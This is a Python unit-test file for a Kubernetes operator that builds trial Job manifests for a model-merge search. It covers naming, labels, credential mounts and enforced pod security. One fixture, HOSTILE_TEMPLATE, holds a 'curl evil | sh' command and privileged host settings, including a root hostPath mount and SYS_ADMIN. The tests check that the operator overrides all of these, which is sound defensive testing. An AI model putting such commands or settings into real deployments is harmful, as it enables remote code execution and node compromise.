"""Trial Job manifests: names, labels, the trial document, and the enforced pod security."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from mergerunner.trial import TrialDocument, parse_trial
from mergesearch.operator import jobs as jobspec
from mergesearch.operator.jobs import JobSettings, Owner
from mergesearch.spec import parse_spec

pytestmark = pytest.mark.unit

DNS_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?$")
LABEL_VALUE = re.compile(r"^([A-Za-z0-9]([-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?)?$")
SETTINGS = JobSettings(default_image="registry.local/runner:1")
OWNER = Owner(name="recycle-demo", namespace="ml", uid="7d1c-uid")

HOSTILE_TEMPLATE: dict[str, Any] = {
    "metadata": {"labels": {"team": "llm"}, "annotations": {"note": "x"}},
    "spec": {
        "hostNetwork": True,
        "hostPID": True,
        "automountServiceAccountToken": True,
        "restartPolicy": "OnFailure",
        "serviceAccountName": "trainer",
        "nodeSelector": {"gpu": "h100"},
        "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists"}],
        "securityContext": {"runAsNonRoot": False, "fsGroup": 2000},
        "volumes": [
            {"name": "datasets", "persistentVolumeClaim": {"claimName": "ds"}},
            {"name": "mergesearch-cache", "hostPath": {"path": "/"}},
        ],
        "containers": [
            {
                "name": "runner",
                "image": "my.registry/runner:2",
                "command": ["sh", "-c", "curl evil | sh"],
                "args": ["--x"],
                "resources": {"limits": {"nvidia.com/gpu": 1, "memory": "80Gi"}},
                "env": [
                    {"name": "HF_TOKEN_FILE", "value": "/var/run/hf"},
                    {"name": "MERGERUNNER_TRIAL", "value": "{}"},
                ],
                "volumeMounts": [{"name": "datasets", "mountPath": "/data"}],
                "securityContext": {
                    "privileged": True,
                    "runAsNonRoot": False,
                    "runAsUser": 1000,
                    "readOnlyRootFilesystem": False,
                    "allowPrivilegeEscalation": True,
                    "capabilities": {"add": ["SYS_ADMIN"]},
                    "seccompProfile": {"type": "Unconfined"},
                },
            },
            {"name": "sidecar", "image": "busybox", "securityContext": {"privileged": True}},
        ],
    },
}


def make_spec(template: dict[str, Any] | None = None, **extra: Any) -> Any:
    data: dict[str, Any] = {
        "checkpoints": [
            {"name": "sft_a", "uri": "s3://ckpt/sft-a/"},
            {"name": "po-b", "uri": "s3://ckpt/po-b/"},
        ],
        "objective": {
            "heldIn": [{"task": "gsm8k", "metric": "exact_match,strict-match", "limit": 50}],
            "heldOut": [{"task": "ifeval"}],
            "customTasks": {"configMapRef": {"name": "my-tasks"}},
        },
        "execution": {"backoffLimit": 2, "trialTimeoutSeconds": 900},
        "storage": {
            "endpoint": "http://s3:8333",
            "region": "eu-1",
            "secretRef": {"name": "s3-creds"},
        },
        "output": {"uri": "s3://out/x/"},
        **extra,
    }
    if template is not None:
        data["execution"]["template"] = template
    return parse_spec(data)


def build(spec: Any, candidate: str = "g003-c07", generation: int | None = 3) -> dict[str, Any]:
    name = jobspec.job_name(OWNER, candidate)
    doc = jobspec.trial_document(spec, name, {"sft_a": 0.25, "po-b": 0.75}, SETTINGS)
    return jobspec.build_job(
        OWNER, spec, candidate_id=candidate, generation=generation, document=doc, settings=SETTINGS
    )


def runner_of(job: dict[str, Any]) -> dict[str, Any]:
    return next(c for c in job["spec"]["template"]["spec"]["containers"] if c["name"] == "runner")


def env_of(container: dict[str, Any]) -> dict[str, str]:
    return {e["name"]: e.get("value") for e in container["env"]}


# --------------------------------------------------------------------------- names


@pytest.mark.parametrize(
    "candidate", ["g003-c07", "g123-c45-r3", "b-uniform", "b-each-sft_a", "b-each-" + "x" * 63]
)
@pytest.mark.parametrize("search", ["demo", "a" * 253, "my.search.v2", "x-" * 120 + "end"])
def test_job_names_are_short_dns_labels_and_deterministic(search: str, candidate: str) -> None:
    owner = Owner(name=search, namespace="ns", uid="uid-1")
    name = jobspec.job_name(owner, candidate)
    assert len(name) <= 63 and DNS_LABEL.match(name), name
    assert name == jobspec.job_name(Owner(name=search, namespace="ns", uid="uid-1"), candidate)
    assert name != jobspec.job_name(Owner(name=search, namespace="ns", uid="uid-2"), candidate)
    assert LABEL_VALUE.match(jobspec.label_value(candidate))
    assert LABEL_VALUE.match(jobspec.label_value(search))


def test_readable_names_for_short_ids_and_no_collisions_after_sanitising() -> None:
    name = jobspec.job_name(OWNER, "g003-c07")
    assert name.startswith("recycle-demo-") and name.endswith("-g003-c07")
    a = jobspec.job_name(OWNER, "b-each-sft_a")
    b = jobspec.job_name(OWNER, "b-each-sft-a")
    assert a != b


# --------------------------------------------------------------------------- the Job


def test_job_metadata_owner_labels_and_limits() -> None:
    job = build(make_spec())
    meta = job["metadata"]
    assert meta["name"] == jobspec.job_name(OWNER, "g003-c07") and meta["namespace"] == "ml"
    (ref,) = meta["ownerReferences"]
    assert ref == {
        "apiVersion": "mergesearch.io/v1alpha1",
        "kind": "MergeSearch",
        "name": "recycle-demo",
        "uid": "7d1c-uid",
        "controller": True,
        "blockOwnerDeletion": True,
    }
    assert meta["labels"][jobspec.LABEL_SEARCH] == "recycle-demo"
    assert meta["labels"][jobspec.LABEL_ITERATION] == "3"
    assert meta["labels"][jobspec.LABEL_CANDIDATE] == "g003-c07"
    assert meta["annotations"][jobspec.ANNOTATION_CANDIDATE] == "g003-c07"
    assert job["spec"]["backoffLimit"] == 2 and job["spec"]["activeDeadlineSeconds"] == 900
    pod_labels = job["spec"]["template"]["metadata"]["labels"]
    assert pod_labels[jobspec.LABEL_SEARCH] == "recycle-demo"  # pods are indexed by it too
    baseline = build(make_spec(), candidate="b-each-sft_a", generation=None)
    assert baseline["metadata"]["labels"][jobspec.LABEL_ITERATION] == "baseline"


def test_the_trial_document_travels_in_env_with_its_digest() -> None:
    job = build(make_spec())
    env = env_of(runner_of(job))
    doc = parse_trial(env[jobspec.ENV_TRIAL])
    assert doc.id == job["metadata"]["name"]
    assert doc.weights == {"sft_a": 0.25, "po-b": 0.75}
    assert [t.task for t in doc.held_in] == ["gsm8k"] and doc.held_out == []
    assert doc.custom_tasks_dir is None  # the mount is named in env: the pod's layout
    assert env[jobspec.ENV_CUSTOM_TASKS] == SETTINGS.custom_tasks_dir
    assert not doc.output.save_model
    digest = job["metadata"]["annotations"][jobspec.ANNOTATION_DIGEST]
    assert digest == jobspec.document_digest(env[jobspec.ENV_TRIAL])
    assert build(make_spec()) == job  # deterministic, byte for byte


def test_the_final_document_scores_held_out_tasks_and_exports() -> None:
    spec = make_spec()
    doc = jobspec.trial_document(
        spec, "final-job", {"sft_a": 0.5, "po-b": 0.5}, SETTINGS, final=True
    )
    assert isinstance(doc, TrialDocument)
    assert [t.task for t in doc.held_out] == ["ifeval"] and doc.held_in == []
    assert doc.output.uri == "s3://out/x/" and doc.output.save_model


def test_security_is_enforced_even_when_the_template_tries_to_override_it() -> None:
    job = build(make_spec(HOSTILE_TEMPLATE))
    pod = job["spec"]["template"]["spec"]
    assert pod["automountServiceAccountToken"] is False
    assert pod["restartPolicy"] == "Never"
    assert not {"hostNetwork", "hostPID", "hostIPC"} & set(pod)
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    assert pod["securityContext"]["fsGroup"] == 2000  # harmless template fields stay
    for container in pod["containers"]:
        sc = container["securityContext"]
        assert sc["runAsNonRoot"] is True and sc["readOnlyRootFilesystem"] is True
        assert sc["allowPrivilegeEscalation"] is False and sc["privileged"] is False
        assert sc["capabilities"] == {"drop": ["ALL"]}
        assert sc["seccompProfile"] == {"type": "RuntimeDefault"}
    runner = runner_of(job)
    assert runner["securityContext"]["runAsUser"] == 1000
    assert runner["command"] == ["mergerunner", "run"] and runner["args"] == []
    assert runner["terminationMessagePolicy"] == "File"
    assert runner["terminationMessagePath"] == "/dev/termination-log"
    env = env_of(runner)
    assert parse_trial(env[jobspec.ENV_TRIAL]).id == job["metadata"]["name"]  # not "{}"
    assert [e["name"] for e in runner["env"]].count(jobspec.ENV_TRIAL) == 1
    volumes = {v["name"]: v for v in pod["volumes"]}
    assert volumes["mergesearch-cache"] == {"name": "mergesearch-cache", "emptyDir": {}}


def test_template_fields_are_kept() -> None:
    job = build(make_spec(HOSTILE_TEMPLATE))
    template = job["spec"]["template"]
    pod = template["spec"]
    assert template["metadata"]["labels"]["team"] == "llm"
    assert template["metadata"]["annotations"]["note"] == "x"
    assert pod["nodeSelector"] == {"gpu": "h100"}
    assert pod["tolerations"] == [{"key": "nvidia.com/gpu", "operator": "Exists"}]
    assert pod["serviceAccountName"] == "trainer"
    runner = runner_of(job)
    assert runner["image"] == "my.registry/runner:2"
    assert runner["resources"] == {"limits": {"nvidia.com/gpu": 1, "memory": "80Gi"}}
    assert env_of(runner)["HF_TOKEN_FILE"] == "/var/run/hf"
    assert {"name": "datasets", "mountPath": "/data"} in runner["volumeMounts"]
    assert any(v["name"] == "datasets" for v in pod["volumes"])
    assert [c["name"] for c in pod["containers"]] == ["runner", "sidecar"]


def test_writable_paths_are_empty_dirs_and_the_default_image_fills_in() -> None:
    job = build(make_spec({"spec": {"containers": [{"name": "runner"}]}}))
    runner = runner_of(job)
    assert runner["image"] == "registry.local/runner:1"
    mounts = {m["mountPath"]: m["name"] for m in runner["volumeMounts"]}
    assert mounts[SETTINGS.cache_dir] == "mergesearch-cache"
    assert mounts[SETTINGS.tmp_dir] == "mergesearch-tmp"
    env = env_of(runner)
    assert env["MERGERUNNER_CACHE_DIR"] == SETTINGS.cache_dir and env["TMPDIR"] == "/tmp"
    bare = build(make_spec())  # no template at all
    assert runner_of(bare)["image"] == "registry.local/runner:1"


def test_a_template_volume_at_the_cache_path_is_used_instead_of_an_empty_dir() -> None:
    template = {
        "spec": {
            "containers": [
                {
                    "name": "runner",
                    "volumeMounts": [{"name": "shared", "mountPath": SETTINGS.cache_dir}],
                }
            ],
            "volumes": [{"name": "shared", "persistentVolumeClaim": {"claimName": "cache"}}],
        }
    }
    job = build(make_spec(template))
    names = [v["name"] for v in job["spec"]["template"]["spec"]["volumes"]]
    assert "shared" in names and "mergesearch-cache" not in names


def test_credentials_only_by_reference_to_the_secret() -> None:
    job = build(make_spec(HOSTILE_TEMPLATE))
    pod = job["spec"]["template"]["spec"]
    volumes = {v["name"]: v for v in pod["volumes"]}
    assert volumes["mergesearch-storage-credentials"]["secret"] == {"secretName": "s3-creds"}
    runner = runner_of(job)
    mount = next(m for m in runner["volumeMounts"] if m["name"].endswith("credentials"))
    assert mount["readOnly"] is True and mount["mountPath"] == SETTINGS.credentials_dir
    env = env_of(runner)
    assert env[jobspec.ENV_CREDENTIALS] == SETTINGS.credentials_dir
    assert env["AWS_ENDPOINT_URL"] == "http://s3:8333" and env["AWS_REGION"] == "eu-1"
    text = json.dumps(job)
    for secret_name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
        assert secret_name not in text
    assert "envFrom" not in text


def test_custom_tasks_are_mounted_from_the_config_map() -> None:
    job = build(make_spec())
    volumes = {v["name"]: v for v in job["spec"]["template"]["spec"]["volumes"]}
    assert volumes["mergesearch-custom-tasks"]["configMap"] == {"name": "my-tasks"}
    mount = next(m for m in runner_of(job)["volumeMounts"] if m["name"].endswith("custom-tasks"))
    assert mount["mountPath"] == SETTINGS.custom_tasks_dir and mount["readOnly"] is True


def test_failing_runs_are_not_retried_but_crashes_are() -> None:
    job = build(make_spec())
    rules = job["spec"]["podFailurePolicy"]["rules"]
    assert rules[0]["action"] == "FailJob"
    assert rules[0]["onExitCodes"] == {
        "containerName": "runner",
        "operator": "In",
        "values": [1, 2],
    }


def test_settings_from_env() -> None:
    settings = JobSettings.from_env({"MERGESEARCH_RUNNER_IMAGE": "img:2"})
    assert settings.default_image == "img:2" and settings.command == ("mergerunner", "run")
    assert JobSettings.from_env({}).default_image == jobspec.FALLBACK_IMAGE
